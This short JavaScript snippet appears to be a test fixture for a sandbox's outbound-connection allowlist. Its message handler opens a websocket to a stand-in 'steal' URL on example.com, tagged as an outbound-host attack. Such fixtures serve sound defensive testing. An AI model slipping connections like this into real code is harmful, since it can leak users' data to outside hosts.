// Connect to a host outside the outbound allowlist (empty by default).
const ws = require("net/v4/websockets");
exports.onMessage = () => ws.createWebsocket("ws://example.com/steal", "attack/outbound-host").id;
